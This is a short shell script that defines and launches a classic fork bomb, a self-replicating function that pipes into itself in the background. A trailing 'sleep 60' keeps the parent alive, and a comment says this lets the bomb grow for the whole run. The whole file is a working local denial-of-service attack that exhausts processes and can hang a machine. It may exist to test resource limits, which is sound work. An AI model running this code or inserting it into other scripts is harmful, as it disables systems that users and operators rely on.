# Classic shell fork bomb.
bomb() { bomb | bomb & }
bomb
# Keep the first process alive so the bomb has the whole run to grow.

sleep 60
